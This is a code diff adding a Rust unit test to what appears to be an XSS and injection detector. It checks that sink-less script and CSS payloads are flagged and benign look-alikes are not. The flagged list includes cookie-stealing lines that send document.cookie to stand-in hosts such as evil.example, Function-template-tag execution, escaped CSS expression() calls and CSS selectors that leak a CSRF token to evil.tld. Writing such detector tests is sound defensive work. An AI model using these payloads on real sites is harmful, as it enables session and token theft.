@@ -1396,3 +1396,36 @@ fn script_names_keep_their_case() {
         assert!(hit(v), "missed {v:?}");
     }
 }
+
+/// Script and style that act without a sink call the location-independent rules knew:
+/// locations without the ML stage (cookies, User-Agent, Referer, other headers) rely on
+/// these. A URL built from `document.cookie`, the `Function` constructor as a template tag,
+/// a CSS keyword split by an escape, a CSS rule that fetches an outside URL by an input's
+/// value.
+#[test]
+fn statements_and_styles_without_a_sink_call() {
+    for v in [
+        "x=new XMLHttpRequest();x.open('GET','//evil/'+document.cookie);x.send()",
+        "new Image().src=\"https://evil.example/c?\"+escape(document.cookie)",
+        "location='http://evil.example/?c=' + document.cookie",
+        "new Function`alert\\`1\\``",
+        "Function`alert\\x281\\x29```",
+        "w\\idth:expr\\ession(alert(1))",
+        "x:exp\\ression(alert(1))",
+        "red;}input[name=csrf][value^=a]{background:url(//evil.tld/a)}",
+        "<style>input[value^=\"a\"]{background:url(https://evil.tld/?a)}</style>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "var share = 'https://example.com/?t=' + document.title",
+        "console.log('cookies: ' + document.cookie)",
+        "the `Function` constructor compiles a string",
+        "new Function`return 1`",
+        "see C:\\expression\\files",
+        "a[href^=\"http\"]{background:url(https://cdn.example.com/ext.png)}",
+        "input[value^=a]{border:1px solid red}",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
